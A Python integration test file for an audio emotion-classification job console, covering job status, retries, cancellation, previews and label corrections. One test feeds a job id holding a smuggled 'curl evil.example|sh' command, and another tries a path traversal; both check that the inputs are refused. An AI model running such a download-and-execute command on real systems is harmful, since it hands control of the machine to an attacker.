"""What became of jobs: shown, cancelled, tried again, corrected; and what lies in objects."""

import json
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from storage.queue.entries import Ending
from storage.queue.streams import JobStreams
from storage.redis.embedded import EmbeddedRedis
from storage.wire.messages import Keys, Status
from tests.integration.producer.console.conftest import Open
from tests.integration.producer.console.test_uploads import BATCH, JOB, send

SCORES = {"happy": 0.9, "sad": 0.1}
DONE = Ending(Status.DONE, {"label": "happy", "score": "0.9", "scores": json.dumps(SCORES)})
FAILED = Ending(Status.FAILED, {"error_code": "not_audio", "error": "is no audio: <b>send</b> WAV"})
DEAD = Ending(Status.DEAD, {"error_code": "storage_unavailable"}, "storage_unavailable")


def end(streams: JobStreams, ending: Ending) -> None:
    """What a worker does with all that is there."""
    begun = streams.begin(streams.read_blocking(30, block_seconds=0.05))
    assert begun
    streams.finish([(each, ending) for each in begun])


def shown(page: TestClient) -> dict[str, Any]:
    """The one recording, as the page polls it."""
    (found,) = page.get(f"/api/jobs?ids={JOB}").json()["jobs"]
    assert isinstance(found, dict)
    return found


def test_a_result_is_told_with_all_its_scores(console: Open, streams: JobStreams) -> None:
    """And an unknown job has no status."""
    page = console()
    send(page)
    end(streams, DONE)
    found = shown(page)
    assert (found["status"], found["label"], found["scores"]) == ("done", "happy", SCORES)
    assert page.get("/api/jobs?ids=nobody").json()["jobs"][0]["status"] == ""


@pytest.mark.parametrize("asked", ["1%0Acurl%20evil.example|sh", "a,b%20c", "é", "a" * 129])
def test_what_is_no_id_is_refused(asked: str, console: Open) -> None:
    """A page shows the ids that its link has, and a command for each to be copied to a shell."""
    answer = console().get(f"/api/jobs?ids={asked}")
    assert (answer.status_code, answer.json()["error"]) == (400, "invalid_job")
    assert "is the id of no job" in answer.json()["message"]


def test_a_forged_hash_breaks_nothing(console: Open, client: Any, keys: Keys) -> None:
    """Whoever may write to Redis may write nonsense there."""
    page = console()
    client.hset(keys.result(JOB), mapping={"status": "done", "scores": "{", "score": "1e999"})
    assert shown(page)["status"] == "unreadable"
    assert page.get(f"/api/jobs/{JOB}").status_code == 200


def test_a_failure_can_be_tried_again(console: Open, streams: JobStreams) -> None:
    """As a new run of the same job, in its batch."""
    page = console()
    send(page)
    end(streams, FAILED)
    assert shown(page)["error"] == "is no audio: <b>send</b> WAV"
    assert page.post(f"/api/jobs/{JOB}/retry?batch={BATCH}").json()["status"] == "queued"
    end(streams, DONE)
    assert shown(page)["status"] == "done"
    assert page.get(f"/api/batches/{BATCH}").json()["counts"]["done"] == 1


def test_a_job_is_tried_again_from_any_page(console: Open, streams: JobStreams) -> None:
    """Which may know nothing but its id, or show another batch: the job knows its own."""
    page = console()
    send(page)
    for place in ("", "?batch=another"):
        end(streams, FAILED)
        assert page.post(f"/api/jobs/{JOB}/retry{place}").json().get("status") == "queued"


def test_a_dead_job_is_replayed_by_its_letter(console: Open, streams: JobStreams) -> None:
    """Alone, or with all of its cause."""
    page = console()
    send(page)
    end(streams, DEAD)
    assert page.post(f"/api/jobs/{JOB}/retry").json()["status"] == "queued"
    end(streams, DEAD)
    answer = page.post("/api/dead/replay", json={"reason": "storage_unavailable"})
    assert answer.json() == {"replayed": 1, "refused": 0}
    assert shown(page)["status"] == "queued"


def test_what_was_not_sent_from_here_is_not_sent_again(console: Open, client: Any) -> None:
    """Since nobody knows what it was."""
    answer = console().post("/api/jobs/nobody/retry")
    assert answer.status_code == 409


def test_jobs_and_batches_are_cancelled(console: Open, streams: JobStreams) -> None:
    """By whoever looks at them."""
    page = console()
    send(page)
    assert page.post(f"/api/jobs/{JOB}/cancel").json()["verdict"] == "CANCELLED"
    assert page.post(f"/api/jobs/{JOB}/cancel").json()["verdict"] == "ENDED"
    send(page, "e" * 32)
    assert page.post(f"/api/batches/{BATCH}/cancel").json() == {"open": 1}


def test_lists_in_objects_are_opened(console: Open, client: Any, keys: Keys, store: Path) -> None:
    """A page needs to know nothing of `segments_key`."""
    (store / "long.json").write_text('[{"start_s": 0, "end_s": 1}]')
    told = {"status": "done", "scores": json.dumps(SCORES), "segments_key": "long.json"}
    client.hset(keys.result(JOB), mapping=told)
    assert console().get(f"/api/jobs/{JOB}").json()["segments"] == [{"start_s": 0, "end_s": 1}]


@pytest.mark.parametrize(
    ("asked", "status", "gives"),
    [
        (None, 200, b"0123456789"),
        ("bytes=2-4", 206, b"234"),
        ("bytes=7-", 206, b"789"),
        ("bytes=-3", 206, b"789"),
        ("bytes=8-100", 206, b"89"),
        ("bytes=10-", 416, None),
        ("bytes=4-2", 416, None),
        ("lines=1-2", 416, None),
    ],
)
def test_a_preview_is_played_from_anywhere(
    asked: str | None,
    status: int,
    gives: bytes | None,
    console: Open,
    client: Any,
    keys: Keys,
    store: Path,
) -> None:
    """By ranges, as browsers ask for them."""
    (store / "a.preview.mp3").write_bytes(b"0123456789")
    client.hset(keys.result(JOB), mapping={"status": "done", "preview_key": "a.preview.mp3"})
    headers = {} if asked is None else {"range": asked}
    answer = console().get(f"/objects/{JOB}/preview", headers=headers)
    assert answer.status_code == status
    if gives is not None:
        assert answer.content == gives
        assert answer.headers["content-type"] == "audio/mpeg"
        assert answer.headers["accept-ranges"] == "bytes"


def test_nothing_else_in_the_store_can_be_had(
    console: Open, client: Any, keys: Keys, store: Path
) -> None:
    """An object is asked for by its job, and is peaks or a preview."""
    (store / "secret.wav").write_bytes(b"secret")
    client.hset(keys.result(JOB), mapping={"status": "done", "frames_key": "secret.wav"})
    page = console()
    for path in (
        f"{JOB}/frames",
        f"{JOB}/secret.wav",
        "secret.wav/preview",
        "..%2fsecret.wav/peaks",
    ):
        assert page.get(f"/objects/{path}").status_code == 404, path


@pytest.mark.parametrize("batch", [BATCH, "another", ""])
def test_a_wrong_label_is_kept_as_an_object(
    console: Open, streams: JobStreams, store: Path, batch: str
) -> None:
    """A JSON line, and a task for Label Studio; from whatever page."""
    page = console()
    send(page)
    end(streams, DONE)
    told = {"label": "sad", "batch": batch, "note": "sighs"}
    keys = page.post(f"/api/jobs/{JOB}/correction", json=told).json()["keys"]
    line, task = (json.loads((store / key).read_text()) for key in keys)
    assert keys[0].startswith("emostream/corrections/")
    assert (store / keys[0]).read_text().endswith("}\n")
    assert (line["label"], line["right"], line["note"]) == ("happy", "sad", "sighs")
    assert line["key"] == f"uploads/console/{JOB}/a_call.wav"
    assert task["data"]["audio"] == f"{store.as_uri()}/{line['key']}"
    said = [one["result"][0]["value"] for one in (*task["predictions"], *task["annotations"])]
    assert said == [{"choices": ["happy"]}, {"choices": ["sad"]}]


def test_a_turn_is_corrected_by_its_times(
    console: Open, client: Any, keys: Keys, store: Path
) -> None:
    """And one that is not there is refused, as a label is that the model does not have."""
    turn = {"start_s": 1.5, "end_s": 3.0, "channel": 1, "label": "happy", "score": 0.8}
    turn |= {"scores": SCORES, "speaker": "customer"}
    told = {"status": "done", "scores": json.dumps(SCORES), "segments": json.dumps([turn])}
    client.hset(keys.result(JOB), mapping={**told, "duration_s": "5.5"})
    page = console()
    asked = {"label": "sad", "start_s": 1.5, "end_s": 3.0, "channel": 1}
    keys_of = page.post(f"/api/jobs/{JOB}/correction", json=asked).json()["keys"]
    line, task = (json.loads((store / key).read_text()) for key in keys_of)
    assert (line["speaker"], line["label"], line["right"]) == ("customer", "happy", "sad")
    value = task["annotations"][0]["result"][0]["value"]
    assert value == {"choices": ["sad"], "start": 1.5, "end": 3.0, "channel": 1}
    for wrong in ({**asked, "end_s": 9}, {**asked, "start_s": "a"}, {**asked, "label": "bored"}):
        assert page.post(f"/api/jobs/{JOB}/correction", json=wrong).status_code == 400


def test_a_stretch_that_is_no_segment_is_corrected(
    console: Open, client: Any, keys: Keys, store: Path
) -> None:
    """A whole channel, or neighbours in a timeline that the page shows as one."""
    channel = {"channel": 1, "label": "happy", "score": 0.8, "scores": SCORES}
    told = {"status": "done", "scores": json.dumps(SCORES), "channels": json.dumps([channel])}
    client.hset(keys.result(JOB), mapping={**told, "duration_s": "5.5"})
    page = console()
    asked = {"label": "sad", "start_s": 0, "end_s": 5.5, "channel": 1, "heard": "happy"}
    lines = []
    for heard in ("happy", "sad"):
        answer = page.post(f"/api/jobs/{JOB}/correction", json={**asked, "heard": heard}).json()
        lines.append(json.loads((store / answer["keys"][0]).read_text()))
    assert [(line["label"], line["score"]) for line in lines] == [("happy", 0.8), ("sad", None)]
    assert lines[0]["channel"] == 1


def test_jobs_of_other_programs_are_counted(
    console: Open, client: Any, keys: Keys, streams: JobStreams
) -> None:
    """And named where they failed."""
    page = console()
    send(page)
    client.xadd(keys.lanes[1], {"key": "b.wav", "job": "theirs", "batch": BATCH})
    end(streams, FAILED)
    found = page.get(f"/api/batches/{BATCH}").json()
    assert found["counts"]["jobs"] == 2
    assert found["others"] == [{"job": "theirs", "status": "failed", "error_code": "not_audio"}]


def test_the_live_view_tells_lanes_rates_and_causes(
    console: Open, client: Any, keys: Keys, streams: JobStreams
) -> None:
    """One look for all pages."""
    page = console()
    for number in range(3):
        send(page, str(number) * 32)
    end(streams, FAILED)
    send(page, "e" * 32)
    page.post("/api/lanes/normal", json={"paused": True})
    found = page.get("/api/live").json()
    high, normal, bulk = found["lanes"]
    assert (normal["queued"], high["queued"], bulk["queued"]) == (1, 0, 0)
    assert normal["paused_seconds"] is not None
    assert found["rate"]["failed"] == 3
    (cause,) = found["causes"]
    assert (cause["code"], cause["jobs"], cause["dead"]) == ("not_audio", 3, 0)
    assert page.post("/api/lanes/normal", json={"paused": False}).json() == {"changed": True}
    assert page.post("/api/lanes/none", json={"paused": True}).status_code == 400


def test_what_waits_for_a_retry_is_cancelled_by_its_cause(
    console: Open, client: Any, keys: Keys, streams: JobStreams
) -> None:
    """Those of that cause, and no others; beside what has failed of it."""
    page = console()
    for number in range(4):
        send(page, str(number) * 32)
    begun = streams.begin(streams.read_blocking(30, block_seconds=0.05))
    for each, code in zip(
        begun, ("storage_unavailable", "storage_unavailable", "internal"), strict=False
    ):
        streams.retry(each, delay_seconds=600, code=code, message="x")
    streams.finish([(begun[3], DEAD)])
    waiting = {cause["code"]: cause["waiting"] for cause in page.get("/api/live").json()["causes"]}
    assert waiting == {"storage_unavailable": 2, "internal": 1}
    answer = page.post("/api/retries/cancel", json={"reason": "storage_unavailable"})
    assert answer.json() == {"cancelled": 2, "refused": 0}
    assert client.zrange(keys.delayed, 0, -1) == [begun[2].job_id.encode()]
    statuses = [client.hget(keys.result(each.job_id), "status") for each in begun]
    assert statuses == [b"cancelled", b"cancelled", b"retrying", b"dead"]
    assert page.post("/api/retries/cancel", json={}).status_code == 400


def test_an_outage_of_redis_is_said(console: Open, tmp_path: Path) -> None:
    """With a status that says: try again."""
    with EmbeddedRedis(tmp_path / "redis") as server:
        page = console(redis_url=server.url)
    for path in ("/api/live", f"/api/jobs?ids={JOB}", f"/api/batches/{BATCH}"):
        answer = page.get(path)
        assert (answer.status_code, answer.json()["error"]) == (503, "redis_away"), path
